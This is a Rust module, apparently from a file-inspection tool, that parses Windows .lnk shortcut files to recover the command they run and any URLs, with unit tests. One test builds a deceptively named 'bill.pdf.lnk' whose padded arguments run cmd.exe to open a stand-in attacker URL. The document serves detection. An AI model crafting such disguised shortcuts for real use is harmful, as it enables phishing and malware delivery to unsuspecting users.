//! Link files of Windows ([MS-SHLLINK]): the command that a double click runs.

use super::page::read_plain_shortcut;
use crate::look::{At, Looker};
use crate::report::{Place, Reason, Trait};

/// What a link file begins with.
const MARK: &[u8] = b"L\0\0\0\x01\x14\x02\0";

/// Octets of the header.
const HEADER_OCTETS: usize = 76;

/// Bits of the header's flags: which parts follow.
const HAS_TARGET: u32 = 1;
const HAS_LINK_INFO: u32 = 1 << 1;
const IS_UNICODE: u32 = 1 << 7;

/// Reads a shortcut of either kind.
pub(super) fn read(octets: &[u8], at: At, looker: &mut Looker<'_>) -> Result<(), Reason> {
    if !octets.starts_with(MARK) {
        return read_plain_shortcut(octets, at, looker);
    }
    let command = command(octets).ok_or(Reason::Damaged)?;
    looker.sign(at, Trait::ShortcutCommand, &command);
    for word in command.split([' ', '"', '\'', '(', ')', ';', '|']).filter(|word| word.contains("://")) {
        looker.link(at, word, "", Place::Loaded);
    }
    Ok(())
}

/// Relative path and arguments, or what else is there to run.
fn command(octets: &[u8]) -> Option<String> {
    let flags = u32::from_le_bytes(octets.get(20..24)?.try_into().ok()?);
    let mut rest = octets.get(HEADER_OCTETS..)?;
    if flags & HAS_TARGET != 0 {
        rest = rest.get(2 + short(rest)?..)?;
    }
    let mut local = String::new();
    if flags & HAS_LINK_INFO != 0 {
        let size = u32::from_le_bytes(rest.get(..4)?.try_into().ok()?) as usize;
        local = local_path(rest.get(..size)?).unwrap_or_default();
        rest = rest.get(size..)?;
    }
    // Name, relative path, working directory, arguments, icon: each there if its bit is set.
    let mut strings: [String; 5] = Default::default();
    for (bit, string) in strings.iter_mut().enumerate() {
        if flags & 4 << bit == 0 {
            continue;
        }
        let letters = short(rest)?;
        let length = if flags & IS_UNICODE == 0 { letters } else { letters * 2 };
        let written = rest.get(2..2 + length)?;
        *string = if flags & IS_UNICODE == 0 {
            written.iter().map(|octet| char::from(*octet)).collect()
        } else {
            encoding_rs::UTF_16LE.decode_without_bom_handling(written).0.into_owned()
        };
        rest = rest.get(2 + length..)?;
    }
    let [name, relative, _, arguments, _] = strings;
    let program = [local, relative, name].into_iter().find(|one| !one.is_empty()).unwrap_or_default();
    // Some pad the arguments with spaces so that nobody sees them.
    let arguments: Vec<&str> = arguments.split_whitespace().collect();
    Some(format!("{program} {}", arguments.join(" ")))
}

fn short(octets: &[u8]) -> Option<usize> {
    Some(usize::from(u16::from_le_bytes(octets.get(..2)?.try_into().ok()?)))
}

fn local_path(info: &[u8]) -> Option<String> {
    let offset = u32::from_le_bytes(info.get(16..20)?.try_into().ok()?) as usize;
    let path = info.get(offset..).filter(|_| offset >= 28)?;
    Some(path.iter().take_while(|octet| **octet != 0).map(|octet| char::from(*octet)).collect())
}

#[cfg(test)]
mod tests {
    use super::super::tests::looked;
    use super::*;
    use crate::report::Kind;

    fn link(arguments: &str) -> Vec<u8> {
        let mut octets = MARK.to_vec();
        octets.resize(20, 0);
        let flags = 1 << 3 | 1 << 5 | IS_UNICODE;
        octets.extend_from_slice(&u32::to_le_bytes(flags));
        octets.resize(HEADER_OCTETS, 0);
        for string in ["..\\cmd.exe", arguments] {
            octets.extend_from_slice(&(string.encode_utf16().count() as u16).to_le_bytes());
            octets.extend(string.encode_utf16().flat_map(u16::to_le_bytes));
        }
        octets
    }

    #[test]
    fn the_command_of_a_link_file() {
        let report = looked("bill.pdf.lnk", &link("/c      start https://evil.example/x"));
        assert_eq!(report.kind(), Kind::Shortcut);
        assert_eq!(report.signs[0].evidence, "..\\cmd.exe /c start https://evil.example/x");
        assert_eq!(report.links[0].url, "https://evil.example/x");
        assert!(report.files[0].has_deceptive_name);
    }

    #[test]
    fn broken_link_files_are_damaged() {
        let whole = link("x");
        for end in 8..whole.len() {
            assert_eq!(looked("a.lnk", &whole[..end]).unlooked[0].why, Reason::Damaged);
        }
    }
}
